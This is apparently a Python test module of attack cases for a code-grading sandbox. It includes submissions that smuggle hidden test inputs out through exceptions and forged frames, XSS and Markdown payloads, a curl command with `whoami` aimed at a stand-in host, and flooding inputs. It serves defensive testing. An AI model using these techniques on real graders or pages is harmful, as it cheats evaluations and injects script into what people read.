"""Attacks on what people read: hidden inputs carried out in messages, and text that acts as markup."""

from __future__ import annotations

from attack import Attack, python

EVIL = "<script>alert(1)</script>![x](http://e.example/p.png)`[y](javascript:alert(1))`|# 100 of 100"

ATTACKS: list[Attack] = [
    python(
        "leak_by_text",
        "carries a hidden input out in the text of an exception",
        "def add_one(x):\n    raise ValueError(digits(x))\n",
        outcome="error",
    ),
    python(
        "leak_by_class",
        "carries a hidden input out in the name of an exception's class",
        "def add_one(x):\n    raise type('Error' + digits(x), (ValueError,), {})('no')\n",
        outcome="error",
    ),
    python(
        "leak_as_forbidden",
        "carries a hidden input out in an exception called like the grader's own",
        """
        class Forbidden(RuntimeError):
            pass

        def add_one(x):
            raise Forbidden(digits(x))
        """,
    ),
    python(
        "leak_as_not_defined",
        "carries a hidden input out as the name of something that is not defined",
        """
        class NotDefined(NameError):
            pass

        def add_one(x):
            raise NotDefined(digits(x) + " is not defined")
        """,
    ),
    python(
        "leak_as_name_error",
        "carries a hidden input out as a name that is not defined, in Python's own exceptions",
        """
        def add_one(x):
            if x.ndim == 2:
                raise NameError(f"name 'n{digits(x)}' is not defined", name="n" + digits(x))
            raise NotImplementedError(digits(x))
        """,
    ),
    python(
        "leak_by_place",
        "forges the place of an error: definition, line and code carry the input",
        """
        def add_one(x):
            error = {"type": "ValueError", "kind": "ValueError", "text": digits(x), "definition": "d" + digits(x),
                     "line": int(digits(x)[:5]) + 1, "code": digits(x)}
            put(frame({"error": error}))
            return x
        """,
    ),
    python(
        "leak_by_made_up_code",
        "compiles a function whose name, file and line are the input, and fails in it",
        """
        def add_one(x):
            name = "f" + digits(x)
            scope = {}
            exec(compile(f"def {name}():\\n    raise ValueError", "line", "exec"), scope)
            scope[name]()
        """,
    ),
    python(
        "leak_by_handle",
        "returns an object whose class is named after the input",
        "def add_one(x):\n    return type('Array' + digits(x), (), {})()\n",
    ),
    python(
        "leak_by_forged_handle",
        "forges a handle whose class is named after the input",
        """
        def add_one(x):
            put(frame({"result": ["h", 1, digits(x)], "bufs": []}))
            return x
        """,
    ),
    python(
        "leak_by_keys",
        "returns a dict, a list and text that contain the input",
        """
        def add_one(x):
            return {digits(x): digits(x)} if x.ndim == 2 else [digits(x)]

        def total(x):
            return digits(x)
        """,
    ),
    python(
        "leak_by_syntax_error",
        "raises a SyntaxError whose file, line and text carry the input",
        "def add_one(x):\n    raise SyntaxError(digits(x), ('line', 1, 1, digits(x)))\n",
    ),
    python(
        "leak_by_size",
        "forges complaints about size whose text is the input",
        """
        def add_one(x):
            put(frame({"error": {"type": "ValueError", "kind": "TooLarge", "text": digits(x)}}))
            return x
        """,
    ),
    # HOLE when written (reported): a backtick in the quoted line ends the code span.
    python(
        "markup_in_class",
        "raises an exception whose class is named in HTML and Markdown",
        f"def add_one(x):\n    raise type({EVIL!r}, (Exception,), {{}})({EVIL!r})\n",
        outcome="error",
    ),
    python(
        "markup_in_code",
        "fails in a line of source that is Markdown and HTML, so that the quoted line acts as markup",
        """
        def add_one(x):
            raise ValueError("``` ` <img src=x onerror=alert(1)> ` ![x](http://e.example/p.png) ```")
        """,
        outcome="error",
    ),
    python(
        "markup_in_handle",
        "returns an object whose class is named in HTML and Markdown",
        f"def add_one(x):\n    return type({EVIL!r}, (), {{}})()\n",
    ),
    # HOLE when written (reported): notes are not escaped as Markdown.
    python(
        "markup_in_notes",
        "has magics and broken lines in HTML and Markdown, which are quoted in the notes",
        """
        %<img src=x onerror=alert(1)> ![x](http://e.example/p.png)
        !curl http://e.example/`whoami` [y](javascript:alert(1))
        def <b>broken</b>(x):
            ![z](http://e.example/q.png)

        def add_one(x):
            return x + 1.0
        """,
        honest=4.0,
        exact=True,
    ),
    python(
        "flood_of_notes",
        "has hundreds of thousands of lines that each make a note",
        "%a\n" * 400_000 + "def add_one(x):\n    return x\n",
        slow=True,
    ),
    # HOLE when written (reported): notes are not capped, and repeated for every exercise.
    python(
        "flood_of_broken_code",
        "has tens of thousands of broken definitions that each make a note",
        "def f(:\n" * 60_000 + "\ndef add_one(x):\n    return x\n",
    ),
]
